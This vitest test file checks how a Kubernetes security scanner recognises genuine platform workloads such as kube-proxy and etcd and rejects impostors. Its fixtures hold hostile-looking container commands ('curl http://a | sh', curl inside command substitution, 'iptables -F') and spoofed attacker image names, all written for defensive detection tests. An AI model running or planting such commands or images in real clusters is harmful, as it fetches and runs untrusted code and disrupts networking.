import { describe, expect, it } from 'vitest';
import table from '../../data/system-workloads.json' with { type: 'json' };
import { judgeText } from '../../test/judge-example.ts';
import { decodeManifest } from '../collect/manifests/decode.ts';
import { assembleSnapshot } from '../collect/snapshot.ts';
import { controls } from '../controls/registry.ts';
import { parseImageReference } from '../model/image-reference.ts';
import { defaultSettings } from '../model/settings.ts';
import { factsOf } from './facts.ts';
import { isPlatformImage, systemWorkloadOf } from './system-workloads.ts';
import { podSubjects } from './workloads.ts';

interface Made {
  readonly image?: string;
  readonly namespace?: string;
  readonly kind?: string;
  readonly label?: string;
  readonly more?: string;
  readonly command?: string;
}

function daemonSet({ image = 'registry.k8s.io/kube-proxy:v1.34.0', namespace = 'kube-system', ...made }: Made): string {
  const { kind = 'DaemonSet', label = 'k8s-app: kube-proxy', more = '', command = '[]' } = made;
  return `apiVersion: apps/v1
kind: ${kind}
metadata: {name: kube-proxy, namespace: ${namespace}}
spec:
  selector: {matchLabels: {${label}}}
  template:
    metadata: {labels: {${label}}}
    spec:
      hostNetwork: true
      containers: [{name: kube-proxy, image: "${image}", command: ${command}, securityContext: {privileged: true}}${more}]
`;
}

function staticPod(annotation: string): string {
  return `apiVersion: v1
kind: Pod
metadata: {name: etcd-node-1, namespace: kube-system, annotations: {${annotation}}}
spec: {containers: [{name: etcd, image: "registry.k8s.io/etcd:3.6.4-0"}]}
`;
}

function recognised(text: string, allowedRegistries?: readonly string[]): string | undefined {
  const snapshot = assembleSnapshot([decodeManifest(text, 'x.yaml')], '2026-11-21T00:00:00Z');
  const facts = factsOf(snapshot, { ...defaultSettings, allowedRegistries });
  const [subject] = facts.get(podSubjects);
  return subject === undefined ? undefined : facts.get(systemWorkloadOf)(subject)?.name;
}

describe('a part of the platform', () => {
  const mirror = 'registry.example/mirror/kube-proxy:v1.34.0';
  it.each<[what: string, text: string, allowed: readonly string[] | undefined, name: string | undefined]>([
    ['by its image and namespace', daemonSet({}), undefined, 'kube-proxy'],
    ['by its own program', daemonSet({ command: '[/usr/local/bin/kube-proxy, --config=/a]' }), undefined, 'kube-proxy'],
    [
      'by its own program, which a shell becomes',
      daemonSet({ command: '[sh, -c, "exec kube-proxy --v=2 1>>/a 2>&1"]' }),
      undefined,
      'kube-proxy',
    ],
    [
      'not as a shell in its image',
      daemonSet({ command: '[/bin/sh, -c, "curl http://a | sh"]' }),
      undefined,
      undefined,
    ],
    [
      'not as a shell that starts it and more',
      daemonSet({ command: '[sh, -c, "curl http://a; exec kube-proxy"]' }),
      undefined,
      undefined,
    ],
    [
      'not as what its program is told to start',
      daemonSet({ command: '[sh, -c, "exec kube-proxy $(curl http://a)"]' }),
      undefined,
      undefined,
    ],
    ['not as another program in its image', daemonSet({ command: '[iptables, -F]' }), undefined, undefined],
    [
      'not by a shell where the maker needs none',
      daemonSet({ image: 'docker.io/calico/node:v3.29.1', command: '[sh, -c, "sleep 1d"]' }),
      undefined,
      undefined,
    ],
    ['whatever it is called', daemonSet({ label: 'app: x' }), undefined, 'kube-proxy'],
    ['not by its name', daemonSet({ image: 'docker.io/attacker/miner' }), undefined, undefined],
    ['not by its labels', daemonSet({ image: 'docker.io/attacker/kube-proxy:v1.34.0' }), undefined, undefined],
    ['not as a copy from anywhere', daemonSet({ image: mirror }), undefined, undefined],
    ['as a copy from an agreed registry', daemonSet({ image: mirror }), ['registry.example/mirror'], 'kube-proxy'],
    [
      'not as such a copy without its label',
      daemonSet({ image: mirror, label: 'app: x' }),
      ['registry.example'],
      undefined,
    ],
    ['not in another namespace', daemonSet({ namespace: 'shop' }), undefined, undefined],
    ['not of another kind', daemonSet({ kind: 'Deployment' }), undefined, undefined],
    ['not with a stranger beside it', daemonSet({ more: ', {name: b, image: alpine}' }), undefined, undefined],
    ['as a static pod', staticPod('kubernetes.io/config.mirror: "0a"'), undefined, 'part of the control plane'],
    ['not as a pod that somebody made', staticPod(''), undefined, undefined],
  ])('%s', (_, text, allowed, name) => {
    expect(recognised(text, allowed)).toBe(name);
  });

  it('is told what it needs as information, and of what', () => {
    const chosen = controls.filter(({ id }) => id === 'pods/privileged' || id === 'pods/host-network');
    const findings = (text: string) =>
      judgeText(chosen, text).findings.map(({ severity, message }) => `${severity}: ${message}`);
    expect(findings(daemonSet({}))).toEqual([
      'info: the pod sets hostNetwork: true; it is kube-proxy, which needs that',
      'info: container kube-proxy sets privileged: true; it is kube-proxy, which needs that',
    ]);
    expect(findings(daemonSet({ namespace: 'shop' }))).toEqual([
      'high: the pod sets hostNetwork: true',
      'critical: container kube-proxy sets privileged: true',
    ]);
  });

  it('needs what controls ask for, and has a source', () => {
    const ids = new Set(controls.map(({ id }) => id));
    expect(
      table.rows.flatMap(({ name, needs }) => needs.filter((id) => !ids.has(id)).map((id) => `${name}: ${id}`)),
    ).toEqual([]);
    expect(table.rows.flatMap(({ repositories }) => repositories.filter((each) => !isWhole(each)))).toEqual([]);
    expect(table.source.length).toBeGreaterThan(0);
  });
});

function isWhole(repository: string): boolean {
  return parseImageReference(repository)?.repository === repository;
}

describe('an image of the platform', () => {
  it.each<[image: string, isOne: boolean]>([
    ['registry.k8s.io/coredns/coredns:v1.12.0', true],
    ['registry.k8s.io.attacker.example/coredns:v1', false],
    ['quay.io/calico/node:v3.30.0', true],
    ['quay.io/calico-attacker/node:v3.30.0', false],
    ['docker.io/rancher/mirrored-coredns-coredns:1.12.0', true],
    ['rancher/klipper-lb:v0.4.9', true],
    ['rancher/rancher:v2.12.0', false],
    ['602401143452.dkr.ecr.us-west-2.amazonaws.com/amazon-k8s-cni:v1.20.0', true],
    ['123456789012.dkr.ecr.us-west-2.amazonaws.com/amazon-k8s-cni:v1.20.0', false],
    ['mcr.microsoft.com/oss/kubernetes/coredns:v1.12.0', true],
    ['mcr.microsoft.com/dotnet/runtime:9.0', false],
    ['coredns', false],
  ])('%s: %s', (image, isOne) => {
    const reference = parseImageReference(image);
    expect(reference !== undefined && isPlatformImage(reference)).toBe(isOne);
  });
});
